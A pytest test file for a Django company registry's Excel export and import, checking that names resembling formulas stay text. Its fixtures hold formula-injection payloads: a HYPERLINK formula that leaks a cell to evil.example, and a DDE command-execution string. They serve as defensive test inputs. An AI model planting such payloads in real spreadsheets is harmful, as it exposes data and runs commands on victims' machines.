"""Formula injection: registry exports, templates and error reports hold names that look like formulas as text,
and an exported list imports again with those names unchanged."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from zhiben.core.excel.workbooks import formula_cells, write_table
from zhiben.registry.excel.kinds import KINDS
from zhiben.registry.factories import CertificateFactory
from zhiben.registry.models import Enterprise, ImportJob

from .conftest import headers_of, row_for

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


@pytest.fixture
def hostile_records(enterprise, project, employee):
    Enterprise.objects.filter(pk=enterprise.pk).update(name=HOSTILE, legal_representative="@SUM(1,2)")
    type(project).objects.filter(pk=project.pk).update(name="+" + HOSTILE)
    type(employee).objects.filter(pk=employee.pk).update(name="-1+2")
    CertificateFactory(person=employee, number="=1+1", issuer="=CMD|' /C calc'!A0")


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_no_export_holds_a_formula(client, platform_admin, hostile_records, kind):
    client.force_login(platform_admin)
    content = b"".join(client.get(f"/registry/export/{kind}/").streaming_content)
    assert formula_cells(content) == []
    values = {v for row in load_workbook(BytesIO(content)).active.iter_rows(values_only=True) for v in row}
    expected = {"enterprises": HOSTILE, "projects": "+" + HOSTILE, "persons": "-1+2", "certificates": "=1+1"}
    assert expected[kind] in values


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_no_template_holds_a_formula(client, regulator, kind):
    client.force_login(regulator)
    assert formula_cells(b"".join(client.get(f"/registry/template/{kind}/").streaming_content)) == []


def test_an_exported_name_that_looks_like_a_formula_imports_again_unchanged(client, platform_admin, do_import,
                                                                           hostile_records, enterprise):
    client.force_login(platform_admin)
    content = b"".join(client.get("/registry/export/enterprises/").streaming_content)
    do_import(platform_admin, "enterprises", content)
    job = ImportJob.objects.get()
    assert job.status == "succeeded", job.errors
    enterprise.refresh_from_db()
    assert enterprise.name == HOSTILE and enterprise.legal_representative == "@SUM(1,2)"


def test_the_error_report_holds_no_formula(client, regulator, do_import):
    buffer = BytesIO()  # text cells, as Excel saves text typed with a leading apostrophe
    write_table(buffer, title="企业", headers=headers_of("enterprises"),
                rows=[row_for("enterprises", name=HOSTILE, uscc="=1+1")])
    content = buffer.getvalue()
    do_import(regulator, "enterprises", content)
    job = ImportJob.objects.get()
    assert job.status == "failed" and job.errors[0]["row"] == 2, job.errors
    report = client.get(f"/registry/import/{job.pk}/report/")
    assert report.status_code == 200
    body = b"".join(report.streaming_content)
    assert formula_cells(body) == []
    assert load_workbook(BytesIO(body)).active["A2"].value == HOSTILE
